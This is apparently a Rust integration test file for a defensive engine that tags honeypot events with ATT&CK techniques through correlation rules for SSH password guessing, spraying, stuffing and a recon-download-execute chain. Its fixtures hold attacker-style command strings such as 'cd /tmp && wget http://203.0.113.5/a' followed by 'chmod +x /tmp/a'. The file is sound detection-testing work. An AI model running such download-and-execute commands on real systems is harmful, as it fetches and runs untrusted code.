//! Correlation rules through the real binary: `ttp tag` into a real SQLite
//! file, `ttp check` for located diagnostics.

mod common;

use std::path::Path;
use std::process::Command;

const GUESSING: &str = "rule_id: TTP-C001
rule_version: 1
name: ssh password guessing
applies_to: [auth_attempt]
correlate:
  type: event_count
  match: {all: [{field: success, equals: false}]}
  group_by: [attacker_uuid]
  window: 5m
  condition: {gte: 10}
emits: [{tactic: TA0006, technique_id: T1110, sub_technique_id: T1110.001, confidence: 0.8}]
";

fn write_rules(dir: &Path, files: &[(&str, &str)]) {
    std::fs::create_dir_all(dir).unwrap();
    for (name, text) in files {
        std::fs::write(dir.join(name), text).unwrap();
    }
}

/// `ttp tag` of `events` (JSON lines) with `rules` into `db`.
fn tag(rules: &Path, db: &Path, events: &[String]) {
    let lines: Vec<&str> = events.iter().map(String::as_str).collect();
    common::ttp_tag_with(rules, db, &lines);
}

/// `ttp check` of `rules`: its exit code and everything it printed.
fn check(rules: &Path) -> (Option<i32>, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_ttp"))
        .args(["check", "--rules"])
        .arg(rules)
        .output()
        .unwrap();
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    (out.status.code(), text)
}

fn attempt(i: usize, attacker: &str, success: bool, seconds: usize) -> String {
    serde_json::json!({
        "source_kind": "auth_attempt", "source_id": format!("{attacker}-{i}"),
        "attacker_uuid": attacker,
        "payload": {"success": success, "username": "root",
                    "ts": format!("2026-11-20T08:{:02}:{:02}Z", seconds / 60, seconds % 60)},
    })
    .to_string()
}

fn rows(db: &Path) -> Vec<(String, String, String, i64)> {
    let conn = rusqlite::Connection::open(db).unwrap();
    let mut stmt = conn
        .prepare(
            "SELECT attacker_uuid, sub_technique_id, evidence, \
             json_extract(evidence, '$.count') FROM ttp_tag WHERE source_kind = 'correlation' \
             ORDER BY source_id",
        )
        .unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn ten_failed_attempts_in_five_minutes_make_one_tag_and_a_replay_none() {
    let work = tempfile::TempDir::new().unwrap();
    let rules = work.path().join("rules");
    write_rules(&rules, &[("c001.yaml", GUESSING)]);
    let db = work.path().join("t.db");
    let mut events = Vec::new();
    // att-1: ten failures 20 s apart (and a success among them, not
    // counted); att-2: nine failures; att-3: ten failures over 15 minutes.
    for i in 0..10 {
        events.push(attempt(i, "att-1", false, i * 20));
        if i == 4 {
            events.push(attempt(100, "att-1", true, 85));
        }
    }
    for i in 0..9 {
        events.push(attempt(i, "att-2", false, i * 20));
    }
    for i in 0..10 {
        events.push(attempt(i, "att-3", false, i * 100));
    }
    tag(&rules, &db, &events);
    let got = rows(&db);
    assert_eq!(got.len(), 1, "{got:?}");
    let (attacker, sub, evidence, count) = &got[0];
    assert_eq!(attacker, "att-1");
    assert_eq!(sub, "T1110.001");
    assert_eq!(*count, 10);
    let ev: serde_json::Value = serde_json::from_str(evidence).unwrap();
    assert_eq!(ev["window_start"], "2026-11-20T08:00:00Z");
    assert_eq!(ev["window_end"], "2026-11-20T08:03:00Z");
    assert_eq!(ev["source_ids"].as_array().unwrap().len(), 10);
    assert_eq!(ev["source_ids"][0], "att-1-0");
    // The same events again: the tag's UUID comes from the rule, the group
    // and the window start, so nothing is added.
    tag(&rules, &db, &events);
    assert_eq!(rows(&db), got);
}

#[test]
fn a_sequence_of_other_rules_in_one_session() {
    let work = tempfile::TempDir::new().unwrap();
    let rules = work.path().join("rules");
    let single = |id: &str, word: &str, technique: &str| {
        format!(
            "rule_id: {id}\nrule_version: 1\nname: {id}\napplies_to: [command]\n\
             match: {{field: command_text, contains: {word}}}\n\
             emits: [{{tactic: TA0002, technique_id: {technique}, confidence: 0.5}}]\n"
        )
    };
    write_rules(
        &rules,
        &[
            ("recon.yaml", &single("T-RECON", "uname", "T1082")),
            ("fetch.yaml", &single("T-FETCH", "wget", "T1105")),
            ("exec.yaml", &single("T-EXEC", "chmod", "T1059")),
            (
                "chain.yaml",
                "rule_id: TTP-C010\nrule_version: 1\nname: recon, download, execute\n\
                 applies_to: [command]\ncorrelate:\n  type: temporal_ordered\n  \
                 rules: [T-RECON, T-FETCH, T-EXEC]\n  group_by: [session_id]\n  window: 10m\n\
                 emits: [{tactic: TA0002, technique_id: T1059, confidence: 0.7}]\n",
            ),
        ],
    );
    let cmd = |session: &str, i: usize, text: &str| {
        serde_json::json!({
            "source_kind": "command", "source_id": format!("{session}-{i}"),
            "attacker_uuid": "att-9", "session_id": session,
            "payload": {"command_text": text, "ts": 1_795_161_600 + i * 30},
        })
        .to_string()
    };
    let db = work.path().join("t.db");
    tag(
        &rules,
        &db,
        &[
            // In order in s1; out of order in s2.
            cmd("s1", 0, "uname -a"),
            cmd("s1", 1, "wget http://x/y"),
            cmd("s1", 2, "chmod +x y"),
            cmd("s2", 0, "chmod +x y"),
            cmd("s2", 1, "wget http://x/y"),
            cmd("s2", 2, "uname -a"),
        ],
    );
    let conn = rusqlite::Connection::open(&db).unwrap();
    let sessions: Vec<String> = conn
        .prepare("SELECT session_id FROM ttp_tag WHERE rule_id = 'TTP-C010'")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(sessions, ["s1"]);
}

#[test]
fn a_broken_correlation_is_reported_at_its_place() {
    let work = tempfile::TempDir::new().unwrap();
    let rules = work.path().join("rules");
    write_rules(
        &rules,
        &[(
            "bad.yaml",
            &GUESSING.replace("window: 5m", "window: five minutes"),
        )],
    );
    let (code, text) = check(&rules);
    assert_eq!(code, Some(1));
    assert!(
        text.contains("bad.yaml:9:11") && text.contains("`window` must be a duration"),
        "{text}"
    );
    // A correlation rule's examples are sequences, not single events.
    write_rules(
        &rules,
        &[(
            "bad.yaml",
            &format!("{GUESSING}examples:\n  match:\n    - {{success: false}}\n"),
        )],
    );
    let (code, text) = check(&rules);
    assert_eq!(code, Some(1));
    assert!(
        text.contains("bad.yaml:14:7")
            && text.contains("E018")
            && text.contains("is `sequence: [event, …]`"),
        "{text}"
    );
}

/// `ttp test` runs a correlation rule's sequences: a `match` sequence
/// fires once on its last event, a `no_match` one never; each way of
/// failing is reported at the sequence's line.
#[test]
fn ttp_test_runs_correlation_sequences() {
    let work = tempfile::TempDir::new().unwrap();
    let rules = work.path().join("rules");
    let examples = |nine: usize, last: &str| {
        format!(
            "{GUESSING}examples:\n  match:\n    - sequence:\n        \
             - {{times: {nine}, payload: {{success: false}}}}\n        - {{success: false}}\n  \
             no_match:\n    - sequence:\n        - {{times: 9, payload: {{success: false}}}}\n        \
             - {{success: {last}}}\n"
        )
    };
    let test = |text: &str| {
        write_rules(&rules, &[("c001.yaml", text)]);
        let out = Command::new(env!("CARGO_BIN_EXE_ttp"))
            .args(["test", "--strict", "--rules"])
            .arg(&rules)
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).to_string()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (code, text) = test(&examples(9, "true"));
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("1 rules, 2 examples"), "{text}");
    // Twelve failures fire on the tenth, not the last; ten in the
    // `no_match` sequence fire it.
    let (code, text) = test(&examples(11, "false"));
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("c001.yaml:14: TTP-C001: the `match` sequence must fire the rule once, on its last event; it fired on event(s) #10"),
        "{text}"
    );
    assert!(
        text.contains("c001.yaml:18: TTP-C001: the `no_match` example fired the rule"),
        "{text}"
    );
    // Too few: missed.
    let (code, text) = test(&examples(7, "true"));
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("c001.yaml:14: TTP-C001: the `match` example did not fire the rule"),
        "{text}"
    );
}

/// Each shipped correlation rule, with a sequence that must fire it (and
/// the other correlation rules that rightly fire on it too).
fn shipped_sequences() -> Vec<(&'static str, Vec<String>, &'static [&'static str])> {
    let at = |s: usize| format!("2026-11-20T08:{:02}:{:02}Z", s / 60, s % 60);
    let login = |i: usize, attacker: &str, user: &str, service: &str, decky: &str, s: usize| {
        serde_json::json!({
            "source_kind": "auth_attempt", "source_id": format!("{attacker}-{i}"),
            "attacker_uuid": attacker, "decky_id": decky,
            "payload": {"username": user, "service": service, "result": "fail", "ts": at(s)},
        })
        .to_string()
    };
    let command = |i: usize, text: &str| {
        serde_json::json!({
            "source_kind": "command", "source_id": format!("c-{i}"),
            "attacker_uuid": "att-c4", "session_id": "sess-c4",
            "payload": {"command_text": text, "ts": at(i * 40)},
        })
        .to_string()
    };
    vec![
        (
            "TTP-C001",
            (0..10)
                .map(|i| login(i, "att-c1", "root", "ssh", "decky-1", i * 15))
                .collect(),
            &[],
        ),
        (
            "TTP-C002",
            ["root", "admin", "oracle", "pi", "ubnt"]
                .iter()
                .enumerate()
                .map(|(i, u)| login(i, "att-c2", u, "ssh", "decky-1", i * 60))
                .collect(),
            &[],
        ),
        (
            "TTP-C003",
            (0..5)
                .map(|i| login(i, "att-c3", "root", "ssh", &format!("decky-{i}"), i * 30))
                .collect(),
            &[],
        ),
        // Stuffing is also many accounts: spraying fires too. Forty seconds
        // apart, the ten failures are not five minutes of guessing.
        (
            "TTP-C005",
            (0..10)
                .map(|i| {
                    serde_json::json!({
                        "source_kind": "auth_attempt", "source_id": format!("c5-{i}"),
                        "attacker_uuid": "att-c5",
                        "payload": {"username": format!("user{i}@example.com"),
                                    "password": format!("leaked-{i}"), "service": "ssh",
                                    "result": "fail", "ts": at(i * 40)},
                    })
                    .to_string()
                })
                .collect(),
            &["TTP-C002"],
        ),
        (
            "TTP-C004",
            vec![
                command(0, "uname -a"),
                command(1, "cd /tmp && wget http://203.0.113.5/a"),
                command(2, "chmod +x /tmp/a"),
            ],
            &[],
        ),
    ]
}

fn shipped_rules() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")
}

fn correlation_tags(db: &Path) -> Vec<String> {
    let conn = rusqlite::Connection::open(db).unwrap();
    let mut stmt = conn
        .prepare("SELECT rule_id FROM ttp_tag WHERE source_kind = 'correlation' ORDER BY rule_id")
        .unwrap();
    stmt.query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn each_shipped_correlation_rule_fires_on_its_sequence_alone() {
    let loaded = ttp_engine::rule::load::load_dir(
        &shipped_rules(),
        ttp_engine::rule::parse::LoadOptions::default(),
    )
    .unwrap();
    let mut shipped: Vec<String> = loaded
        .rules
        .iter()
        .filter(|r| r.correlation().is_some())
        .map(|r| r.rule_id.clone())
        .collect();
    shipped.sort();
    let sequences = shipped_sequences();
    let mut covered: Vec<String> = sequences.iter().map(|(id, ..)| id.to_string()).collect();
    covered.sort();
    assert_eq!(
        shipped, covered,
        "every shipped correlation rule needs a sequence here"
    );
    let work = tempfile::TempDir::new().unwrap();
    for (id, events, also) in sequences {
        let db = work.path().join(format!("{id}.db"));
        tag(&shipped_rules(), &db, &events);
        let mut want: Vec<&str> = also.iter().copied().chain([id]).collect();
        want.sort_unstable();
        assert_eq!(correlation_tags(&db), want, "{id}");
        // One event fewer: not this rule.
        let db = work.path().join(format!("{id}-short.db"));
        tag(&shipped_rules(), &db, &events[..events.len() - 1]);
        assert!(
            !correlation_tags(&db).iter().any(|t| t == id),
            "{id} fired one event short"
        );
    }
}

#[test]
fn no_shipped_correlation_rule_fires_on_the_benign_corpus() {
    let benign = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/benign.jsonl"),
    )
    .unwrap();
    let events: Vec<String> = benign.lines().map(String::from).collect();
    assert!(events.len() >= 300);
    let work = tempfile::TempDir::new().unwrap();
    let db = work.path().join("benign.db");
    tag(&shipped_rules(), &db, &events);
    assert_eq!(correlation_tags(&db), Vec::<String>::new());
}

#[test]
fn a_correlation_naming_a_rule_not_loaded_is_a_warning_until_it_is() {
    let work = tempfile::TempDir::new().unwrap();
    let rules = work.path().join("rules");
    write_rules(
        &rules,
        &[(
            "chain.yaml",
            "rule_id: TTP-C010\nrule_version: 1\nname: chain\napplies_to: [command]\n\
             correlate:\n  type: temporal\n  rules: [T-ONE, T-TWO]\n  group_by: [session_id]\n  \
             window: 10m\nemits: [{tactic: TA0002, technique_id: T1059, confidence: 0.7}]\n",
        )],
    );
    let (code, text) = check(&rules);
    assert_eq!(code, Some(0), "{text}");
    assert!(
        text.contains("chain.yaml:7:11") && text.contains("W110") && text.contains("`T-ONE`"),
        "{text}"
    );
    assert!(
        text.contains("chain.yaml:7:18") && text.contains("`T-TWO`"),
        "{text}"
    );
    write_rules(
        &rules,
        &[(
            "one.yaml",
            "rule_id: T-ONE\nrule_version: 1\nname: one\napplies_to: [command]\n\
             match: {field: command_text, contains: uname}\n\
             emits: [{tactic: TA0007, technique_id: T1082, confidence: 0.5}]\n",
        )],
    );
    let (_, text) = check(&rules);
    assert!(!text.contains("`T-ONE`"), "{text}");
    assert!(text.contains("`T-TWO`"), "{text}");
}
